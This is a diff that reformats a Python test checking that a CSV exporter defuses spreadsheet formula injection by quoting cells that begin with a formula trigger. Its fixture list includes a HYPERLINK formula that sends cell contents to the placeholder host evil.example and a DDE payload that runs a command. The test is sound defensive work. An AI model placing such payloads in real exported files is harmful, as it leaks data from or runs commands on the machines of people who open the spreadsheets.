@@ -13,13 +13,24 @@ from conftest import make_crawl, write_jsonl
 from neardup.cli import main
 from neardup.csvsafe import DEFUSED_PATTERN, FORMULA_TRIGGERS, defuse_formulas, to_csv
 
-FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_text_cells_that_start_a_formula_get_a_quote() -> None:
-    df = pd.DataFrame({"text": [*FORMULAS, "plain", "a=b", None], "score": [-1.5] * 6 + [2.0, 3.0, -0.25],
-                       "n": pd.array([-1] * 8 + [None], dtype="Int64")})
+    df = pd.DataFrame(
+        {
+            "text": [*FORMULAS, "plain", "a=b", None],
+            "score": [-1.5] * 6 + [2.0, 3.0, -0.25],
+            "n": pd.array([-1] * 8 + [None], dtype="Int64"),
+        }
+    )
     out = defuse_formulas(df)
     assert out["text"].tolist()[:6] == ["'" + f for f in FORMULAS]
     assert out["text"].tolist()[6:8] == ["plain", "a=b"] and pd.isna(out["text"].iloc[8])
@@ -29,8 +40,10 @@ def test_text_cells_that_start_a_formula_get_a_quote() -> None:
     assert back["score"].tolist() == df["score"].tolist()
     assert all(not str(v).startswith(FORMULA_TRIGGERS) for v in back["text"].dropna())
     # the pattern import_labels removes the quote by matches exactly the defused cells
-    matches = duckdb.execute("SELECT regexp_matches(t, ?) FROM (SELECT unnest(?) AS t)",
-                             [DEFUSED_PATTERN, [*back["text"].fillna("").tolist(), "'plain", "'a=b"]]).fetchall()
+    matches = duckdb.execute(
+        "SELECT regexp_matches(t, ?) FROM (SELECT unnest(?) AS t)",
+        [DEFUSED_PATTERN, [*back["text"].fillna("").tolist(), "'plain", "'a=b"]],
+    ).fetchall()
     assert [m for (m,) in matches] == [True] * 6 + [False] * 5
 
 
